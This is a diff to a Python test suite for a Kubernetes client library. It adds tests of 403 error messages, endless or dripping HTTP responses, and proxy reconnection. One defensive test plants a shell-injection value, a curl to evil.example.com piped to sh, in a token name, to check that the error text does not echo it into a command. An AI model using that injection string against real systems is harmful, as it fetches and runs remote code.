@@ -7,6 +7,7 @@ import json
 import socket
 import ssl
 import threading
+from http.client import HTTPResponse
 from typing import TYPE_CHECKING, Any
 
 import objects
@@ -19,6 +20,7 @@ from kube.world import b64
 
 from landed import kube
 from landed.errors import ClusterError, ConfigurationError
+from landed.kube import client as client_module
 from landed.kube.client import Client
 from landed.kube.credentials import Credentials, Identity, anonymous
 from landed.kube.endpoint import Endpoint
@@ -392,6 +394,13 @@ class TestRefusals:
             "kubectl create rolebinding landed --role=landed --serviceaccount=ci:landed --namespace=team-a" in message
         )
 
+    def test_403_for_a_name_that_a_shell_would_run(self, world: World, client: Client) -> None:
+        world.api.tokens["g00d"] = "'; curl evil.example.com | sh; '"
+        world.api.forbidden.add(FLUX)
+        message = told(lambda: client.get(FLUX), Forbidden)
+        assert "--user=USER. deploy/rbac.yaml" in message
+        assert "--user=''" not in message
+
     def test_403_for_nobody(self, world: World) -> None:
         world.api.anonymous = True
         with open_client(world, world.config({})) as client:
@@ -438,7 +447,29 @@ class TestRefusals:
         assert len(message) < 1200
 
 
+def _response(raw: bytes) -> HTTPResponse:
+    ours, theirs = socket.socketpair()
+    with ours, theirs:
+        theirs.sendall(raw)
+        theirs.shutdown(socket.SHUT_WR)
+        response = HTTPResponse(ours)
+        response.begin()
+    return response
+
+
 class TestNoAnswer:
+    def test_an_answer_that_only_drips_is_given_up(self) -> None:
+        with _response(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n{") as response, pytest.raises(TimeoutError):
+            client_module._read(response, deadline=0)
+
+    def test_an_answer_that_never_ends_is_given_up(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setattr(client_module, "LIMIT", 1000)
+        for body in (gzip.compress(b" " * 1001), b" " * 1001):
+            headers = {"Content-Encoding": "gzip"} if body[0] == 0x1F else {}
+            world.api.faults[FLUX] = [Reply(200, body, headers)]
+            with open_client(world, world.config(disable_compression=True)) as client:
+                assert "its answer is damaged" in told(lambda: client.get(FLUX))
+
     def test_a_server_that_hangs(self, world: World) -> None:
         world.api.faults[FLUX] = [Reply(hang=True)]
         with open_client(world, world.config(), timeout=0.3) as client:
@@ -594,7 +625,9 @@ class TestProxies:
                 world.api.faults[FLUX] = [Reply(body=b"{}", headers={"Connection": "close"}, close=True)]
                 client.get(FLUX)
                 client.get(FLUX)
-            assert proxy.asked == [f"127.0.0.1:{world.api.port}"] * 2
+                world.api.hang_up()
+                client.get(FLUX)
+            assert proxy.asked == [f"127.0.0.1:{world.api.port}"] * 3
 
     def test_a_proxy_over_tls_that_is_not_trusted(self, world: World) -> None:
         context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
